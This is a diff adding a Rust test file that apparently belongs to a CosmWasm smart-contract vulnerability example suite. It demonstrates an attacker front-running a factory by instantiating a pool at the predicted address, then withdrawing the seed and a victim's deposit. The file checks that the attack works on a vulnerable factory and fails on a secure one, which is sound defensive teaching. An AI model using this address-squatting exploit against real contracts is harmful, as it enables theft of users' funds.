@@ -0,0 +1,147 @@
+//! Squatting the predicted address of a factory-created pool
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_schema::cw_serde;
+use cosmwasm_std::{
+    coins, to_json_binary, Addr, BankMsg, Binary, Deps, DepsMut, Empty, Env, MessageInfo, Response,
+    StdError, StdResult, Uint128,
+};
+use cw_multi_test::{Contract, ContractWrapper, Executor};
+use cw_storage_plus::Item;
+
+use crate::contracts::instantiate_frontrun::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "instantiate_frontrun",
+    description: "Attacker's pool instance takes the address the factory predicted",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "seed and deposit did not reach the squatted pool",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(
+        ContractWrapper::new(secure::execute, secure::instantiate, secure::query)
+            .with_reply(secure::reply),
+    )
+}
+
+const SEED: u128 = 50_000;
+
+/// Pool code the factory deploys: whoever instantiates it owns it
+mod pool {
+    use super::*;
+
+    #[cw_serde]
+    pub enum ExecuteMsg {
+        Withdraw {},
+    }
+
+    const OWNER: Item<Addr> = Item::new("owner");
+
+    pub fn instantiate(
+        deps: DepsMut,
+        _env: Env,
+        info: MessageInfo,
+        _msg: Empty,
+    ) -> StdResult<Response> {
+        OWNER.save(deps.storage, &info.sender)?;
+        Ok(Response::new())
+    }
+
+    pub fn execute(
+        deps: DepsMut,
+        env: Env,
+        info: MessageInfo,
+        _msg: ExecuteMsg,
+    ) -> StdResult<Response> {
+        if info.sender != OWNER.load(deps.storage)? {
+            return Err(StdError::generic_err("Unauthorized"));
+        }
+        let balance = deps.querier.query_balance(env.contract.address, ATOM)?;
+        if balance.amount.is_zero() {
+            return Ok(Response::new());
+        }
+        Ok(Response::new().add_message(BankMsg::Send {
+            to_address: info.sender.to_string(),
+            amount: vec![balance],
+        }))
+    }
+
+    pub fn query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
+        to_json_binary(&Empty {})
+    }
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (owner, attacker, victim) = (h.owner.clone(), h.attacker.clone(), h.victim.clone());
+
+    let pool_code = h.app.store_code(Box::new(ContractWrapper::new(
+        pool::execute,
+        pool::instantiate,
+        pool::query,
+    )));
+    let factory = h.deploy(
+        code(),
+        &InstantiateMsg {
+            pool_code_id: pool_code,
+            seed_denom: ATOM.to_string(),
+        },
+        &coins(SEED, ATOM),
+        "factory",
+    )?;
+
+    // The operator predicts the pool address off-chain...
+    let predicted = h.next_classic_address(pool_code);
+
+    // ...and the attacker, seeing CreatePool in the mempool, instantiates
+    // the same (permissionless) code first
+    let squatted = h.app.instantiate_contract(
+        pool_code,
+        attacker.clone(),
+        &Empty {},
+        &[],
+        "pool-ATOM-OSMO",
+        None,
+    )?;
+    ensure!(
+        squatted == predicted,
+        "attacker missed the predicted address"
+    );
+
+    h.execute(
+        &owner,
+        &factory,
+        &ExecuteMsg::CreatePool {
+            pair: "ATOM-OSMO".to_string(),
+            expected_address: predicted.to_string(),
+            seed_amount: Uint128::new(SEED),
+        },
+        &[],
+    )?;
+    h.execute(
+        &victim,
+        &factory,
+        &ExecuteMsg::Deposit {
+            pair: "ATOM-OSMO".to_string(),
+        },
+        &coins(10_000, ATOM),
+    )?;
+
+    let before = h.balance(&attacker, ATOM);
+    h.execute(&attacker, &squatted, &pool::ExecuteMsg::Withdraw {}, &[])?;
+
+    ensure!(
+        h.balance(&attacker, ATOM) == before + SEED + 10_000,
+        "seed and deposit did not reach the squatted pool"
+    );
+    Ok(())
+}